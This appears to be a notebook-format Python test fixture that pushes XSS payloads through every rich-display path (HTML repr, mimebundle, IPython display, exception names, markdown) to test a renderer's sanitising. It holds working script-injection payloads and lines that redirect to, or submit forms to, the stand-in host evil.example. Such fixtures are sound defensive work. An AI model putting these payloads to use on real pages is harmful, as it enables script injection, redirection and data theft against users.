# ruff: noqa
# %% first
LIVE = "<script>document.title = 'BREA' + 'CH'</script><img src=x onerror=alert(1)><svg/onload=alert(1)>"


class Rich:
    def _repr_html_(self):
        return LIVE

    _repr_javascript_ = _repr_svg_ = _repr_markdown_ = _repr_latex_ = _repr_html_

    def _repr_mimebundle_(self, **options):
        return {"text/html": LIVE, "application/javascript": "alert(1)"}

    __repr__ = _repr_html_


print(LIVE, "&lt;b&gt; ]]> --> </pre></textarea></title>")
display(Rich())
try:
    from IPython.display import HTML, Javascript

    display(HTML(LIVE), Javascript("alert(1)"))
except ImportError as problem:
    print(problem)
raise type("ValueError<script>alert(1)<|script>", (ValueError,), {})(LIVE)

# %% [markdown] explain_rising_cost
# <script>alert(1)</script> <img src=x onerror=alert(1)> [x](javascript:alert(1))
# <iframe srcdoc="&lt;script>alert(1)&lt;/script>"></iframe> $\href{javascript:alert(1)}{x}$
# ![x](https://127.0.0.1:@PORT@/spy.png) <style>* {display: none}</style> <base href="https://evil.example/">
# <meta http-equiv="refresh" content="0;url=https://evil.example/"> <form action="https://evil.example"><input name=a>
#
# [y]: data:text/html,<script>alert(1)</script>
#
# ```mermaid
# graph TD; A["<img src=x onerror=alert(1)>"]
# ```
